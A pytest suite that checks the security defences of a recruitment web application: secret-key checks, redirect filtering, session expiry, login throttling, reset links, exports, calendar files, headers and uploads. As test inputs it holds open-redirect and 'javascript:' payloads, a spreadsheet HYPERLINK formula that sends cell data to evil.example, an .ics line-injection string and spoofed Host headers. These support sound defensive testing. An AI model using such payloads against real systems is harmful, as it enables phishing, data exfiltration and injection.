"""Issue 14's findings, each refused as an attacker would try it: weak secrets, open redirects,
sessions that outlive logout, lock-out abuse and account oracles, formula and header injection,
missing security headers, uploads served under their own extension, a client-chosen host in
public documents. Plus the password-reset and email-confirmation journeys through the views
(test_browser.py walks them in Chromium)."""

from __future__ import annotations

import csv
import io
import re
import statistics
import time
from datetime import UTC, datetime, timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from app import create_app
from app.accounts import sessions
from app.accounts.models import Role, User
from app.applications.models import Document
from app.audit.models import AuditEntry
from app.common import clock
from app.common import national_id as nid
from app.common.urls import safe_next
from app.extensions import db as _db
from app.interviews import calendar
from app.merit import workflow
from app.notifications.models import OutboxEmail
from tests.factories import PASSWORD
from tests.factories.applications import pdf_bytes, post_apply
from tests.factories.interviews import NOW as INTERVIEW_DAY
from tests.factories.interviews import event_props, parse_ics, scheduled_interviews
from tests.factories.merit import Scene

STRONG_KEY = "k" * 40


def me(client) -> str | None:
    response = client.get("/api/me")
    return response.get_json()["email"] if response.status_code == 200 else None


def mails_to(address: str) -> list[OutboxEmail]:
    return list(
        _db.session.scalars(
            select(OutboxEmail).where(OutboxEmail.to_address == address).order_by(OutboxEmail.id)
        )
    )


def link_in(mail: OutboxEmail, path: str) -> str:
    """The path of the first link to `path` in an email (its host is PUBLIC_BASE_URL's)."""
    found = re.search(r"https?://[^/\s]+(" + re.escape(path) + r"[^\s]+)", mail.body_text)
    assert found, mail.body_text
    return found.group(1)


# ---- secrets ---------------------------------------------------------------------------------


@pytest.mark.parametrize("key", ["change-me", "x", "dev-only-change-me", "", "short-but-random-123"])
def test_production_refuses_a_weak_or_published_secret_key(key):
    with pytest.raises(RuntimeError, match="SECRET_KEY"):
        create_app(
            "production",
            {"SECRET_KEY": key, "PUBLIC_BASE_URL": "https://r.example", "TRUSTED_HOSTS": ["r.example"]},
        )


def test_production_starts_with_a_long_random_key_and_needs_its_host_settings():
    create_app(
        "production",
        {"SECRET_KEY": STRONG_KEY, "PUBLIC_BASE_URL": "https://r.example", "TRUSTED_HOSTS": ["r.example"]},
    )
    with pytest.raises(RuntimeError, match="PUBLIC_BASE_URL"):
        create_app(
            "production", {"SECRET_KEY": STRONG_KEY, "PUBLIC_BASE_URL": "", "TRUSTED_HOSTS": ["r.example"]}
        )
    with pytest.raises(RuntimeError, match="TRUSTED_HOSTS"):
        create_app(
            "production",
            {"SECRET_KEY": STRONG_KEY, "PUBLIC_BASE_URL": "https://r.example", "TRUSTED_HOSTS": None},
        )


def test_the_shipped_env_example_would_not_start():
    from pathlib import Path

    env = dict(
        line.split("=", 1)
        for line in (Path(__file__).parents[2] / "deploy" / "env.example").read_text().splitlines()
        if line and not line.startswith("#") and "=" in line
    )
    with pytest.raises(RuntimeError, match="SECRET_KEY"):
        create_app(
            "production",
            {
                "SECRET_KEY": env["SECRET_KEY"],
                "PUBLIC_BASE_URL": env["PUBLIC_BASE_URL"],
                "TRUSTED_HOSTS": env["TRUSTED_HOSTS"].split(","),
            },
        )


# ---- redirects -------------------------------------------------------------------------------

EVIL_NEXT = [
    "https:evil.example/phish",
    "https://evil.example/",
    "//evil.example/",
    "/\\evil.example",
    "\\\\evil.example",
    "/%2F%2Fevil.example",
    "/%2f%5cevil.example",
    "%2F%2Fevil.example",
    "/%252F%252Fevil.example",
    "javascript:alert(1)",
    "http:/evil.example",
    "/\tevil",
    " //evil.example",
]


@pytest.mark.parametrize("target", EVIL_NEXT)
def test_the_language_switch_never_redirects_off_site(client, target):
    response = client.get("/lang/en", query_string={"next": target})
    assert response.status_code == 302
    location = response.headers["Location"]
    assert location == "/", (target, location)


def test_the_language_switch_returns_to_a_page_of_this_site(client):
    response = client.get("/lang/th", query_string={"next": "/rounds?q=วิศวกร"})
    assert (
        response.headers["Location"] == "/rounds?q=%E0%B8%A7%E0%B8%B4%E0%B8%A8%E0%B8%A7%E0%B8%81%E0%B8%A3"
        or response.headers["Location"] == "/rounds?q=วิศวกร"
    )
    referred = client.get("/lang/en", headers={"Referer": "https://evil.example/x"})
    assert referred.headers["Location"] == "/"


def test_login_cannot_be_chained_into_an_off_site_redirect(client, make):
    user = make.candidate()
    response = client.post(
        "/accounts/login",
        data={"email": user.email, "password": PASSWORD, "next": "/lang/th?next=http:evil.example/phish"},
    )
    assert response.status_code == 302
    hop = client.get(response.headers["Location"])
    assert hop.status_code == 302 and hop.headers["Location"] == "/"


def test_safe_next_keeps_ordinary_paths():
    assert safe_next("/accounts/profile") == "/accounts/profile"
    assert safe_next("/rounds?q=a%20b") == "/rounds?q=a%20b"
    assert all(safe_next(t) is None for t in EVIL_NEXT)


# ---- sessions --------------------------------------------------------------------------------


def saved_cookie(client) -> str:
    with client.session_transaction() as sess:
        return dict(sess)


def replay(app, saved: dict):
    """A second browser holding a copy of the session cookie saved earlier."""
    other = app.test_client()
    with other.session_transaction() as sess:
        sess.update(saved)
    return other


def test_a_cookie_saved_before_logout_no_longer_works(app, client, db, make):
    user = make.candidate()
    make.login(client, user)
    saved = saved_cookie(client)
    assert me(replay(app, saved)) == user.email
    client.post("/accounts/logout")
    assert me(replay(app, saved)) is None
    assert db.session.scalar(select(AuditEntry).where(AuditEntry.action == "user.sessions_ended"))


def test_a_password_change_ends_the_other_sessions_and_keeps_this_one(app, client, make):
    user = make.candidate()
    make.login(client, user)
    elsewhere = app.test_client()
    make.login(elsewhere, user)
    response = client.post(
        "/accounts/password",
        data={"old_password": PASSWORD, "password": "new-secret-2026", "password_confirm": "new-secret-2026"},
    )
    assert response.status_code == 302
    assert me(client) == user.email
    assert me(elsewhere) is None


def test_a_role_change_ends_the_sessions_of_that_account(app, make):
    admin = make.user(Role.ADMIN)
    user = make.user(Role.PANEL)
    theirs = make.client_for(app, user)
    admin_client = make.client_for(app, admin)
    admin_client.post(f"/admin/users/{user.id}/roles", data={"role": "proctor"})
    assert me(theirs) is None


def test_sign_out_everywhere(app, client, make):
    user = make.candidate()
    make.login(client, user)
    other = app.test_client()
    make.login(other, user)
    assert "Sign out everywhere" in client.get("/accounts/profile").text
    response = client.post("/accounts/sessions/end-all")
    assert response.status_code == 302 and "/accounts/login" in response.headers["Location"]
    assert me(client) is None and me(other) is None


def test_sessions_end_after_idle_and_absolute_limits_however_often_renewed(app, client, make, monkeypatch):
    user = make.candidate()
    start = time.time()
    monkeypatch.setattr(sessions, "wall_time", lambda: start)
    make.login(client, user)
    # Active every 20 minutes: never idle, but cut at the absolute limit (8 hours).
    for minutes in range(20, 8 * 60, 20):
        monkeypatch.setattr(sessions, "wall_time", lambda m=minutes: start + m * 60)
        assert me(client) == user.email, minutes
    monkeypatch.setattr(sessions, "wall_time", lambda: start + 8 * 3600 + 60)
    page = client.get("/accounts/profile")
    assert page.status_code == 302 and "/accounts/login" in page.headers["Location"]
    assert me(client) is None

    monkeypatch.setattr(sessions, "wall_time", lambda: start + 10 * 3600)
    make.login(client, user)
    monkeypatch.setattr(sessions, "wall_time", lambda: start + 10 * 3600 + 31 * 60)
    response = client.get("/accounts/profile", follow_redirects=True)
    assert "You were away for a while" in response.text
    assert me(client) is None


def test_the_session_cookie_does_not_renew_itself_past_its_absolute_limit(app):
    # The cookie's own lifetime is the absolute limit, not a sliding window the server trusts.
    assert app.permanent_session_lifetime == timedelta(hours=app.config["SESSION_ABSOLUTE_HOURS"])


# ---- login throttling without lock-out --------------------------------------------------------


def test_a_stranger_cannot_lock_the_owner_out(app, client, make):
    user = make.candidate()
    stranger = app.test_client()
    for _ in range(12):
        response = stranger.post(
            "/accounts/login",
            data={"email": user.email, "password": "wrong-pass-1"},
            environ_base={"REMOTE_ADDR": "203.0.113.9"},
        )
    assert response.status_code == 429  # the stranger is slowed down ...
    assert "มีการพยายามจากที่นี่มากเกินไป" in response.text  # "Too many attempts from here" (Thai)
    owner = app.test_client()  # ... the owner, from elsewhere, is not
    response = owner.post(
        "/accounts/login",
        data={"email": user.email, "password": PASSWORD},
        environ_base={"REMOTE_ADDR": "198.51.100.7"},
    )
    assert response.status_code == 302 and me(owner) == user.email


def test_a_correct_password_does_not_count_against_the_limit(app, make):
    user = make.candidate()
    c = app.test_client()
    for _ in range(8):
        assert make.login(c, user).status_code == 302
        c.post("/accounts/logout")


def test_unknown_and_known_accounts_get_the_same_answer_in_similar_time(app, make):
    user = make.candidate()
    c = app.test_client()

    def timed(email):
        t0 = time.perf_counter()
        r = c.post(
            "/accounts/login",
            data={"email": email, "password": "wrong-pass-1"},
            environ_base={"REMOTE_ADDR": f"192.0.2.{len(email)}"},
        )
        return r, time.perf_counter() - t0

    timed("warm-up@example.com")
    known, unknown = [], []
    for i in range(4):  # interleaved, so both see the same load on the machine
        known.append(timed(user.email))
        unknown.append(timed(f"nobody{i}@example.com"))
    assert {r.status_code for r, _t in known + unknown} == {401}
    assert {re.search(r'role="alert"><p>(.*?)</p>', r.text).group(1) for r, _t in known + unknown} == {
        "อีเมลหรือรหัสผ่านไม่ถูกต้อง"
    }  # (a Thai browser: the default language)
    k, u = statistics.median(t for _r, t in known), statistics.median(t for _r, t in unknown)
    # Both verify an argon2 hash (a dummy one if unknown): before, an unknown email answered
    # in a fraction of the time. Wide bounds: the suite shares two cores with other work.
    assert 0.33 < k / u < 3.0, (k, u)


# ---- registration without an oracle --------------------------------------------------------


def registration(**overrides) -> dict:
    data = {
        "first_name_th": "สมหญิง",
        "last_name_th": "ใจดี",
        "first_name_en": "Somying",
        "last_name_en": "Jaidee",
        "national_id": nid.complete("310170012345"),
        "birth_date": "1996-04-02",
        "email": "new@example.com",
        "phone": "0812345678",
        "password": "strong-pass-2026",
        "password_confirm": "strong-pass-2026",
    }
    data.update(overrides)
    return data


def visible(response) -> str:
    """The page without what varies per request (the CSRF token, the typed email)."""
    text = re.sub(r'name="csrf_token"[^>]*>', "", response.text)
    return text.replace("taken@example.com", "EMAIL").replace("new@example.com", "EMAIL")


def test_registration_answers_the_same_whether_the_email_or_national_id_is_taken(client, db, make):
    owner = make.candidate(email="taken@example.com", national_id=nid.complete("310170054321"))
    fresh = client.post("/accounts/register", data=registration())
    taken_email = client.post(
        "/accounts/register",
        data=registration(email="taken@example.com", national_id=nid.complete("310170011111")),
    )
    taken_id = client.post(
        "/accounts/register", data=registration(email="new@example.com", national_id=owner.national_id)
    )
    assert fresh.status_code == taken_email.status_code == taken_id.status_code == 200
    assert visible(fresh) == visible(taken_email) == visible(taken_id)
    assert "already exists" not in fresh.text + taken_email.text + taken_id.text
    # Only the first made an account; the owner was told of both attempts, by email.
    assert db.session.scalar(select(func.count()).select_from(User)) == 2
    told = [m.subject for m in mails_to("taken@example.com")]
    assert any("register with your email" in s for s in told)
    assert any("register with your national ID" in s for s in told)


def test_email_verification_journey(client, db):
    client.post("/accounts/register", data=registration())
    user = db.session.scalar(select(User).where(User.email == "new@example.com"))
    # Before confirming: no log-in (so no application), and a fresh link is sent.
    before = len(mails_to("new@example.com"))
    refused = client.post(
        "/accounts/login", data={"email": "new@example.com", "password": "strong-pass-2026"}
    )
    assert refused.status_code == 401 and "Confirm your email address first" in refused.text
    assert me(client) is None and len(mails_to("new@example.com")) == before + 1

    link = link_in(mails_to("new@example.com")[-1], "/accounts/verify/")
    tampered = client.get(link[:-3] + ("AAA" if not link.endswith("AAA") else "BBB"))
    assert tampered.status_code == 400 and "not valid" in tampered.text
    response = client.get(link, follow_redirects=True)
    assert "Your email address is confirmed" in response.text
    db.session.refresh(user)
    assert user.email_verified_at is not None
    assert db.session.scalar(select(AuditEntry).where(AuditEntry.action == "user.email_verified"))
    ok = client.post("/accounts/login", data={"email": "new@example.com", "password": "strong-pass-2026"})
    assert ok.status_code == 302 and me(client) == "new@example.com"


def test_a_confirmation_link_expires(client, db):
    client.post("/accounts/register", data=registration())
    link = link_in(mails_to("new@example.com")[-1], "/accounts/verify/")
    with clock.frozen_at(clock.now() + timedelta(days=3)):
        response = client.get(link)
    assert response.status_code == 400 and "expired" in response.text


# ---- password reset -------------------------------------------------------------------------


def test_password_reset_journey_single_use_and_every_session_ends(app, client, db, make):
    user = make.candidate(email="owner@example.com")
    old_session = make.client_for(app, user)
    login_page = client.get("/accounts/login")
    assert 'href="/accounts/forgot"' in login_page.text

    known = client.post("/accounts/forgot", data={"email": "Owner@example.com"})
    unknown = client.post("/accounts/forgot", data={"email": "nobody@example.com"})
    assert known.status_code == unknown.status_code == 200
    assert visible(known).replace("owner@example.com", "EMAIL") == visible(unknown).replace(
        "nobody@example.com", "EMAIL"
    )
    link = link_in(mails_to("owner@example.com")[-1], "/accounts/reset/")
    assert "/accounts/reset/" not in mails_to("nobody@example.com")[-1].body_text

    assert client.get(link).status_code == 200
    weak = client.post(link, data={"password": "short", "password_confirm": "short"})
    assert weak.status_code == 422
    response = client.post(link, data={"password": "brand-new-2026", "password_confirm": "brand-new-2026"})
    assert response.status_code == 302
    assert me(old_session) is None  # the session opened before the reset has ended
    assert make.login(client, user, "brand-new-2026").status_code == 302
    client.post("/accounts/logout")
    # The link worked once.
    again = client.get(link)
    assert again.status_code == 400 and "already been used" in again.text
    assert (
        client.post(
            link, data={"password": "other-pass-2026", "password_confirm": "other-pass-2026"}
        ).status_code
        == 400
    )
    assert db.session.scalar(select(AuditEntry).where(AuditEntry.action == "user.password_reset"))
    assert any("password was changed" in m.subject for m in mails_to("owner@example.com"))


def test_a_reset_link_expires_after_an_hour(client, make):
    make.candidate(email="owner@example.com")
    client.post("/accounts/forgot", data={"email": "owner@example.com"})
    link = link_in(mails_to("owner@example.com")[-1], "/accounts/reset/")
    with clock.frozen_at(clock.now() + timedelta(minutes=61)):
        response = client.get(link)
    assert response.status_code == 400 and "expired" in response.text


# ---- exports ---------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def test_public_csv_and_xlsx_hold_no_live_formula(client, make):
    scene = Scene(make, 4)
    first = scene.publish()
    draft = workflow.correct(first, scene.preparer, FORMULA)
    second = scene.approve_and_publish(draft, datetime(2026, 12, 8, 3, 0, tzinfo=UTC))

    book = load_workbook(io.BytesIO(client.get(f"/lists/{second.id}.xlsx").data))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    reason = next(c for c in cells if c.value == FORMULA)
    assert reason.data_type == "s" and reason.quotePrefix

    body = client.get(f"/lists/{second.id}.csv").data.decode("utf-8-sig")
    for line in body.split("\r\n"):
        for cell in next(csv.reader([line]), []):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    canonical = body.split("\r\n")[2]
    import json

    assert json.loads(canonical.removeprefix("# canonical="))["correction_reason"] == FORMULA


# ---- .ics --------------------------------------------------------------------------------


def test_a_carriage_return_in_a_panel_name_cannot_add_a_line_to_the_ics(db, make):
    with clock.frozen_at(INTERVIEW_DAY):
        w, (a, _b) = scheduled_interviews(db, make)
        w.panel.name = "Panel 1\rATTENDEE:mailto:spy@evil.example\r\nX-EVIL:1\nBEGIN:VALARM"
        db.session.commit()
        text = calendar.candidate_ics(a, a.application.candidate)
    names = [name for name, _p, _v in parse_ics(text)]
    assert "X-EVIL" not in names and "spy@evil.example" not in "".join(
        v for n, _p, v in parse_ics(text) if n == "ATTENDEE"
    )
    assert names.count("BEGIN") == 4  # VCALENDAR, VTIMEZONE, STANDARD, VEVENT: no VALARM
    assert "\r" not in text.replace("\r\n", "")
    assert "Panel 1" in event_props(text)["DESCRIPTION"][1]


# ---- headers ----------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/", "/accounts/login", "/accounts/profile", "/api/me"])
def test_every_page_carries_the_security_headers(client, make, path):
    make.login(client, make.candidate())
    response = client.get(path)
    csp = response.headers["Content-Security-Policy"]
    script_src = re.search(r"script-src ([^;]*)", csp).group(1)
    assert "'unsafe-inline'" not in script_src and "'unsafe-eval'" not in script_src
    assert "frame-ancestors 'none'" in csp
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["X-Frame-Options"] == "DENY"
    assert response.headers["Referrer-Policy"] == "same-origin"
    assert "camera=()" in response.headers["Permissions-Policy"]
    assert "microphone=()" in response.headers["Permissions-Policy"]
    assert "no-store" in response.headers["Cache-Control"]
    assert "Strict-Transport-Security" not in response.headers  # plain http here


def test_production_sends_hsts_over_https():
    app = create_app(
        "production",
        {
            "SECRET_KEY": STRONG_KEY,
            "PUBLIC_BASE_URL": "https://r.example",
            "TRUSTED_HOSTS": ["r.example"],
            "SQLALCHEMY_DATABASE_URI": "sqlite://",
            "SQLALCHEMY_ENGINE_OPTIONS": {},
        },
    )
    response = app.test_client().get("/fonts/nope.ttf", base_url="https://r.example")
    assert "max-age=31536000" in response.headers["Strict-Transport-Security"]


# ---- uploads and hosts -------------------------------------------------------------------------


def test_an_upload_is_served_with_the_extension_of_its_detected_type(app, db, make):
    round_ = make.round_(make.agency())
    cand = make.candidate()
    c = make.client_for(app, cand)
    response = post_apply(c, round_, doc_transcript=[(io.BytesIO(pdf_bytes()), "poly.html")])
    assert response.status_code == 302
    doc = db.session.scalar(select(Document))
    dl = c.get(f"/documents/{doc.id}")
    disposition = dl.headers["Content-Disposition"]
    assert "poly.pdf" in disposition and ".html" not in disposition
    assert dl.mimetype == "application/pdf" and "no-store" in dl.headers["Cache-Control"]


def test_an_untrusted_host_is_refused(app, client):
    app.config["TRUSTED_HOSTS"] = ["recruit.example.go.th"]
    try:
        assert client.get("/", headers={"Host": "evil.example"}).status_code == 400
        assert client.get("/", headers={"Host": "recruit.example.go.th"}).status_code == 200
    finally:
        app.config["TRUSTED_HOSTS"] = None


def test_the_public_announcement_never_carries_a_client_chosen_host(app, client, make):
    scene = Scene(make, 3)
    merit = scene.publish()
    url = f"/lists/{merit.id}/announcement.pdf"
    # Without PUBLIC_BASE_URL the link follows the request: then no shared cache may keep it.
    response = client.get(url, headers={"X-Forwarded-Host": "evil.example"})
    assert "public" not in response.headers["Cache-Control"]
    app.config["PUBLIC_BASE_URL"] = "https://recruit.example.go.th"
    try:
        response = client.get(url, headers={"Host": "evil.example", "X-Forwarded-Host": "evil.example"})
        assert response.headers["Cache-Control"].startswith("public")
        assert b"evil.example" not in response.data
        from tests.support.reading import pdf_pages

        text = "".join(pdf_pages(response.data)).replace("\n", "")
        assert "recruit.example.go.th/verify/list/" in text
    finally:
        app.config["PUBLIC_BASE_URL"] = ""
